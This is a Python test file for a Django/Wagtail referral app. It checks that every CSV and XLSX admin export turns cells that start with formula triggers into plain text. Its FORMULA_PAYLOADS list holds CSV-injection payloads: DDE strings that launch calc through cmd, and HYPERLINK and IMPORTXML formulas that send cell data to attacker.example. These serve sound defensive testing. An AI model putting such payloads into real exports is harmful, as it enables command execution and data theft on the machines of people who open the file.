"""Spreadsheet formula injection: every cell of every CSV and XLSX export of the admin is text.

OWASP "CSV Injection": no cell may begin with `=`, `+`, `-`, `@`, tab, carriage return or line
feed, and a separator inside a value must not start a new cell. Payloads are planted in every
text that reaches an export (organisation names, member page titles, service names and notes,
vocabulary names, a user's name), then every export URL found in the URL resolver is fetched in
both formats and every cell is checked.
"""

import csv
import datetime
import inspect
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log
from wagtail_modeladmin.options import ModelAdmin

import vse_referrals
from vse_referrals import exports
from vse_referrals.exports import FORMULA_TRIGGERS, spreadsheet_cell
from vse_referrals.models import AssistanceForm

from . import builders

FORMULA_PAYLOADS = [
    "=1+2",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
    "=1+2';=1+2",
    "-2+3+cmd|' /C calc'!A0",
    "+41 22 555 0100",
    "-5",
    "@username",
    '=IMPORTXML(CONCAT("http://attacker.example/?v=",A2),"//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
]
# Harmless at the start, a formula after a separator or quote: each must stay one quoted cell.
SEPARATOR_PAYLOADS = ['";=1;"', "Acme;=1+2", "Acme,=1+2", 'Acme"=1+2', "Acme\t=1+2"]
PAYLOADS = FORMULA_PAYLOADS + SEPARATOR_PAYLOADS
AS_TEXT = {payload: "'" + payload for payload in FORMULA_PAYLOADS} | {
    payload: payload for payload in SEPARATOR_PAYLOADS
}
# A control character XLSX cannot hold must not hide a trigger behind it.
HIDDEN_TRIGGER = "\x01=1+2"

OUR_EXPORTS = {
    "vse_referrals_organisation_modeladmin_index",
    "vse_referrals_referralcase_modeladmin_index",
    "vse_referrals_directory_services",
}
# Overriding one of these could write a spreadsheet without `spreadsheet_cell`.
WRITER_METHODS = ("as_spreadsheet", "write_csv_response", "write_xlsx_response", "stream_csv", "write_xlsx")


def is_safe(cell):
    """Text that starts no formula (a minus alone, the listings' "no value", starts none)."""
    return not (isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS) and cell != "-")


# The function --------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_text_starting_a_formula_becomes_text(payload):
    assert spreadsheet_cell(payload) == "'" + payload


def test_control_characters_are_dropped_before_the_check():
    assert spreadsheet_cell(HIDDEN_TRIGGER) == "'=1+2"
    assert spreadsheet_cell("Victim\x0bSupport") == "VictimSupport"


@pytest.mark.parametrize(
    "text", [*SEPARATOR_PAYLOADS, "Victim Support Europe", "Brottsofferstöd", "116 006", "a=b", "x-1", "", "-"]
)
def test_other_text_is_unchanged(text):
    assert spreadsheet_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [-5, -1.5, Decimal("-2.50"), 0, True, None, datetime.date(2026, 1, 15), datetime.datetime(2026, 1, 15, 9, 30)],
)
def test_numbers_dates_and_empty_cells_keep_their_type(value):
    assert spreadsheet_cell(value) is value


def test_translated_text_is_checked_as_text():
    assert spreadsheet_cell(gettext_lazy("=1+2")) == "'=1+2"


# Every export URL ------------------------------------------------------------------------------


def url_patterns(resolver=None, namespaces=()):
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            inner = (*namespaces, pattern.namespace) if pattern.namespace else namespaces
            yield from url_patterns(pattern, inner)
        else:
            yield namespaces, pattern


def export_view_class(pattern):
    """The spreadsheet-writing view behind `pattern`, or None."""
    callback = inspect.unwrap(pattern.callback)
    model_admin = getattr(callback, "__self__", None)
    if isinstance(model_admin, ModelAdmin):
        if callback.__name__ == "index_view" and model_admin.list_export:
            return model_admin.index_view_class
        return None
    view_class = getattr(callback, "view_class", None)
    if view_class and issubclass(view_class, SpreadsheetExportMixin) and view_class.list_export:
        return view_class
    return None


def export_urls():
    """Every URL of the admin that exports a spreadsheet, by URL name."""
    found = {}
    for namespaces, pattern in url_patterns():
        if pattern.name and not pattern.pattern.converters and export_view_class(pattern):
            name = ":".join((*namespaces, pattern.name))
            found[name] = reverse(name)
    return found


def export_view_classes():
    found, pending = set(), [SpreadsheetExportMixin]
    while pending:
        subclasses = pending.pop().__subclasses__()
        found.update(subclasses)
        pending.extend(subclasses)
    return found | {export_view_class(pattern) for _namespaces, pattern in url_patterns()} - {None}


def test_the_resolver_finds_this_apps_exports():
    assert OUR_EXPORTS <= set(export_urls())


def test_every_export_view_writes_through_the_safe_writers():
    for name, writer in exports.SAFE_WRITERS.items():
        assert getattr(SpreadsheetExportMixin, name) is writer
    classes = export_view_classes()
    assert len(classes) > len(OUR_EXPORTS)
    for view_class in classes:
        for name in WRITER_METHODS:
            assert getattr(view_class, name) is getattr(SpreadsheetExportMixin, name), (view_class, name)


def test_no_other_module_writes_spreadsheets():
    package = Path(vse_referrals.__file__).parent
    for module in package.rglob("*.py"):
        if module.name == "exports.py" or "migrations" in module.parts:
            continue
        source = module.read_text()
        for marker in ("import csv", "openpyxl", "text/csv", "spreadsheetml", "xlsxwriter"):
            assert marker not in source, f"{module} writes a spreadsheet without vse_referrals.exports"


# Payloads planted in every text that reaches an export -----------------------------------------


@pytest.fixture
def planted(db):
    superuser = builders.make_superuser()
    superuser.first_name, superuser.last_name = "=1+2", "@Tester"
    superuser.save()

    sender_organisation = builders.make_organisation("-Sender organisation", country="SE")
    sender = builders.make_contact_point(sender_organisation, username="sender")
    organisations = [builders.make_organisation(payload, country="FR") for payload in PAYLOADS]
    organisations.append(builders.make_organisation(HIDDEN_TRIGGER, country="DE"))
    for organisation in organisations:
        builders.sent_case(sender, organisation)

    term = AssistanceForm.objects.get(code="emotional-support")
    term.name = "@Emotional support"
    term.save()
    directory = builders.make_directory()
    pages = []
    for index, payload in enumerate(PAYLOADS):
        page = builders.make_member(directory, payload, last_verified=datetime.date(2026, 1, 15))
        page.slug = f"member-{index}"
        page.last_published_at = timezone.now() - datetime.timedelta(days=400)
        page.save()
        builders.make_service(page, payload, assistance=["emotional-support"], training=payload, funding_notes=payload)
        log(page, "wagtail.edit", user=superuser)
        pages.append(page)
    pages[0].locked, pages[0].locked_by, pages[0].locked_at = True, superuser, timezone.now()
    pages[0].save()
    return {"superuser": superuser, "pages": pages}


def exported_cells(client, url, export_format):
    response = client.get(url, {"export": export_format})
    assert response.status_code == 200, (url, export_format)
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        text = content.decode()
        lines = [line for line in text.split("\r\n") if line]
        # Every field quoted: a `;` or `,` inside a value cannot start a cell in any locale.
        assert all(line.startswith('"') for line in lines if not line.startswith(("'", "\t", "\r", "\n")))
        return list(csv.reader(io.StringIO(text)))
    sheet = load_workbook(io.BytesIO(content)).active
    rows = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (url, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (url, cell.value)
        rows.append([cell.value for cell in row])
    return rows


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_no_cell_of_any_export_starts_a_formula(client, planted, export_format):
    client.force_login(planted["superuser"])
    urls = export_urls()
    for name, url in urls.items():
        rows = exported_cells(client, url, export_format)
        assert rows, name
        unsafe = [cell for row in rows for cell in row if not is_safe(cell)]
        assert not unsafe, (name, unsafe)


def as_text(export_format):
    """What each planted payload must be in an export (XML, so XLSX, reads a carriage return as a line feed)."""
    texts = set(AS_TEXT.values())
    return {text.replace("\r", "\n") for text in texts} if export_format == "xlsx" else texts


def column(rows, heading):
    index = rows[0].index(heading)
    return [row[index] for row in rows[1:]]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_planted_payloads_reach_this_apps_exports_as_text(client, planted, export_format):
    client.force_login(planted["superuser"])
    neutralised = as_text(export_format)

    organisations = exported_cells(client, reverse("vse_referrals_organisation_modeladmin_index"), export_format)
    assert neutralised | {"'=1+2", "'-Sender organisation"} <= set(column(organisations, "Name"))

    overview = exported_cells(client, reverse("vse_referrals_referralcase_modeladmin_index"), export_format)
    assert {f"{text}, France" for text in neutralised} <= set(column(overview, "To"))
    assert set(column(overview, "From")) == {"'-Sender organisation, Sweden"}

    report = exported_cells(client, reverse("vse_referrals_directory_services"), export_format)
    for heading in ("Member", "Service", "Staff, volunteers and training", "Financing"):
        assert set(column(report, heading)) == neutralised, heading
    assert set(column(report, "Forms of assistance")) == {"'@Emotional support"}
    # Numbers and dates stay what they are; only text is touched.
    expected_date = "2026-01-15" if export_format == "csv" else datetime.date(2026, 1, 15)
    assert set(column(report, "Last verified")) == {expected_date}


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_planted_payloads_reach_wagtails_own_reports_as_text(client, planted, export_format):
    client.force_login(planted["superuser"])
    neutralised = as_text(export_format)

    aging = exported_cells(client, reverse("wagtailadmin_reports:aging_pages"), export_format)
    assert neutralised <= {row[0] for row in aging[1:]}
    history = exported_cells(client, reverse("wagtailadmin_reports:site_history"), export_format)
    assert neutralised <= {row[1] for row in history[1:]}
    locked = exported_cells(client, reverse("wagtailadmin_reports:locked_pages"), export_format)
    assert [row[0] for row in locked[1:]] == [AS_TEXT[PAYLOADS[0]]]
